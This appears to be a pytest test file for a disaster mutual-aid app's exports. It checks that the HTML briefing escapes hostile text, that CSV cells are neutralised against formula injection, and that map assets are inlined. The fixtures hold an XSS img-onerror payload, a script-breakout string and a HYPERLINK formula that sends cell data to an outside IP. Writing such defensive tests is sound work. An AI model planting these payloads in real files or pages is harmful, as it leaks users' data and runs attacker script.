"""Exports: the briefing as one HTML file, the plan as CSV (mutualaid.exports)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest

from builders import incident, square, write_collection, write_scenario
from mutualaid.allocation import allocate, flows_geojson
from mutualaid.allocation.held import Held
from mutualaid.exports import (
    STATIC_DIR,
    ExportError,
    briefing_html,
    briefing_time,
    inline_assets,
    neutralise_formula,
    plan_csv,
    top_unmet,
)
from mutualaid.figures.operation import operation_figures
from mutualaid.figures.plan import key_figures
from mutualaid.maps.plan import plan_map
from mutualaid.scenario.loading import load_scenario
from mutualaid.settings import BRIEFING_TOP_UNMET

IMG = '<img src=x onerror="alert(1)">'
BREAKOUT = "</script><script>alert(2)</script>"
FORMULA = '=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")'


@pytest.fixture
def hostile(tmp_path: Path):
    """Dutch boats for a German flood; names and ids are formulas and script."""
    folder = tmp_path / "hostile"
    folder.mkdir()
    write_collection(
        folder / "jurisdictions.geojson",
        [
            ({"id": "DE-NW", "name": IMG, "country": "DE"}, square(6.0, 50.0)),
            ({"id": "NL-LI", "name": "Limburg", "country": "NL"}, square(5.0, 50.0)),
        ],
    )
    write_collection(
        folder / "incidents.geojson",
        [
            (
                {
                    "id": "=1+2",
                    "name": IMG,
                    "hazard": "flood",
                    "severity": 5,
                    "reported_at": "2021-07-14T17:30:00Z",
                    "needs": {"boat": 3, "pump": 1},
                },
                {"type": "Point", "coordinates": [6.5, 50.5]},
            ),
            (
                {
                    "id": "@SUM(A1)",
                    "name": BREAKOUT,
                    "hazard": "flood",
                    "severity": 2,
                    "reported_at": "2021-07-14T17:30:00Z",
                    "needs": {"boat": 1},
                },
                {"type": "Point", "coordinates": [6.4, 50.4]},
            ),
        ],
    )
    write_collection(
        folder / "resources.geojson",
        [
            (
                {"id": FORMULA, "name": IMG, "type": "boat", "quantity": 2},
                {"type": "Point", "coordinates": [5.3, 50.2]},
            ),
        ],
    )
    (folder / "agreements.csv").write_text(
        "from,to,resource_types,border_delay_min\nNL,DE,*,15\n", encoding="utf-8"
    )
    scenario = load_scenario(folder).scenario
    assert scenario is not None
    plan = allocate(scenario)
    return scenario, plan


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# --- formulas -------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1+A1", "@SUM(A1)", "\tx", "\r=1", FORMULA])
def test_formula_starts_get_an_apostrophe(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["boat", "DE-NW", "I-1", "", "a=b", "x =1"])
def test_plain_text_is_left_alone(text):
    assert neutralise_formula(text) == text


@pytest.mark.parametrize("text", [" =1", "\n=1", "  +SUM(A1)", "\u00a0@cmd", "\n\n-1+A1"])
def test_a_formula_behind_blanks_or_line_breaks_gets_an_apostrophe(text):
    """Bug (issue 11): the exports' neutraliser checked the first character only, the
    Layers page's skipped blanks first, so " =1" and "\\n=1" passed one and not the
    other; spreadsheets skip them and run the formula. One rule now, the stricter."""
    assert neutralise_formula(text) == "'" + text


def test_one_neutraliser_serves_every_csv_writer():
    from mutualaid import exports, text
    from mutualaid.store import audit_export
    from mutualaid.ui.pages import layers_page

    assert exports.neutralise_formula is text.neutralise_formula
    assert audit_export.neutralise_formula is text.neutralise_formula
    assert layers_page.neutralise_formula is text.neutralise_formula
    assert not hasattr(layers_page, "neutralise")


def test_numbers_stay_numbers():
    assert neutralise_formula(-2) == "-2"
    assert neutralise_formula(12.5) == "12.5"
    assert neutralise_formula(None) == ""


def test_plan_csv_neutralises_every_hostile_cell(hostile):
    _scenario, plan = hostile
    assignments, unmet = plan_csv(plan)
    a_rows, u_rows = _rows(assignments), _rows(unmet)
    assert a_rows[0][:8] == [
        "resource_id",
        "incident_id",
        "type",
        "units",
        "minutes",
        "from_jurisdiction",
        "to_jurisdiction",
        "cross_border",
    ]
    assert u_rows[0][:4] == ["incident_id", "type", "units", "reason"]
    assert len(a_rows) - 1 == len(plan.assignments) > 0
    assert len(u_rows) - 1 == len(plan.unmet) > 0
    cells = [c for row in a_rows + u_rows for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.]+", c)]
    assert "'" + FORMULA in [row[0] for row in a_rows[1:]]  # the resource id, kept whole
    assert {"'=1+2", "'@SUM(A1)"} & {row[0] for row in u_rows[1:]}


# --- the briefing HTML ----------------------------------------------------------------------


@pytest.fixture
def page(hostile) -> str:
    scenario, plan = hostile
    m = plan_map(
        jurisdictions=scenario.jurisdictions,
        incidents=scenario.incidents,
        resources=scenario.resources,
        plan=plan.to_dict(),
        flows=flows_geojson(plan, scenario),
    )
    return briefing_html(
        title=IMG,
        map_=m,
        operation=operation_figures(scenario, Held(), plan),
        figures=key_figures(plan, scenario),
        updated_at="12:34:56",
    )


def test_hostile_text_is_escaped_in_the_briefing(page):
    assert IMG not in page
    assert BREAKOUT not in page
    assert "Briefing: &lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
    assert "<script>alert(2)" not in page


def test_the_briefing_loads_nothing_from_anywhere(page):
    tags = re.findall(r"<(?:script|link|img|iframe)\b[^>]*>", page, flags=re.IGNORECASE)
    assert tags  # the inline scripts
    assert not [t for t in tags if re.search(r"\b(?:src|href)\s*=", t, flags=re.IGNORECASE)]
    assert not [t for t in tags if re.search(r"https?://", t, flags=re.IGNORECASE)]
    assert "/app/static/" not in page


def test_leaflet_is_inlined(page):
    leaflet = (STATIC_DIR / "vendor" / "leaflet" / "leaflet.js").read_text(encoding="utf-8")
    css = (STATIC_DIR / "vendor" / "leaflet" / "leaflet.css").read_text(encoding="utf-8")
    assert leaflet[:2000] in page
    assert ".leaflet-pane" in page and css.splitlines()[1] in page
    assert "url(images/" not in page  # the layer icons are data: URLs
    assert "url(data:image/png;base64," in page


def test_the_briefing_shows_figures_and_the_most_severe_unmet_first(hostile, page):
    scenario, plan = hostile
    figures = key_figures(plan, scenario)
    operation = operation_figures(scenario, Held(), plan)
    # The operation's figures, under the labels every page shows.
    assert ">Units short / needed<" in page
    assert f"{operation.units_short} / {operation.units_needed}" in page
    assert f">{operation.units_proposed}<" in page
    assert "Plan updated at 12:34:56" in page
    table = top_unmet(figures)
    assert table["Severity"].tolist() == sorted(table["Severity"].tolist(), reverse=True)
    assert table["Reason"].str.len().gt(0).all()
    unmet_section = page[page.index('class="mab-unmet"') :]
    assert "=1+2" in unmet_section and "&lt;/script&gt;" in unmet_section


def test_a_map_asset_from_a_cdn_is_refused():
    cdn = '<script src="https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js"></script>'
    with pytest.raises(ExportError, match="not one of the app's own files"):
        inline_assets(f"<html><head>{cdn}</head><body></body></html>")


def test_a_missing_asset_is_reported(tmp_path):
    tag = '<script src="/app/static/vendor/leaflet/leaflet.js"></script>'
    with pytest.raises(ExportError, match="make assets"):
        inline_assets(f"<head>{tag}</head>", static_dir=tmp_path)


# --- issue 13: a briefing made for a wall ---------------------------------------------------


def test_the_briefing_time_has_date_time_and_zone():
    assert briefing_time(datetime(2026, 12, 7, 15, 42, 7, tzinfo=UTC)) == (
        "7 Dec 2026, 15:42:07 UTC"
    )
    # Another zone is shown in UTC, the zone every jurisdiction's coordinators share.
    paris = timezone(timedelta(hours=1))
    assert briefing_time(datetime(2026, 1, 1, 0, 30, tzinfo=paris)) == "31 Dec 2025, 23:30:00 UTC"


def test_the_exported_briefing_lists_every_unmet_need(tmp_path):
    count = BRIEFING_TOP_UNMET + 5
    folder = write_scenario(
        tmp_path / "short",
        incidents=[
            incident(6.1 + i / 100, 50.5, f"I-{i:02d}", needs={"boat": 1}, severity=1 + i % 5)
            for i in range(count)
        ],
    )
    scenario = load_scenario(folder).scenario
    plan = allocate(scenario)
    figures = key_figures(plan, scenario)
    assert len(figures.unmet) == count  # no resources: nothing met
    page = briefing_html(
        title="short",
        map_=plan_map(
            jurisdictions=scenario.jurisdictions,
            incidents=scenario.incidents,
            resources=scenario.resources,
            plan=plan.to_dict(),
            flows=flows_geojson(plan, scenario),
        ),
        operation=operation_figures(scenario, Held(), plan),
        figures=figures,
        updated_at="7 Dec 2026, 15:42:07 UTC",
    )
    start = page.index('class="mab-unmet"')
    section = page[start : page.index("</section>", start)]
    assert section.count("<tr><td>") == count
    assert f"{count} unmet needs, all listed." in section
    assert "more" not in section
    assert "Plan updated at 7 Dec 2026, 15:42:07 UTC" in page
    assert len(top_unmet(figures, limit=None)) == count
    assert len(top_unmet(figures)) == BRIEFING_TOP_UNMET
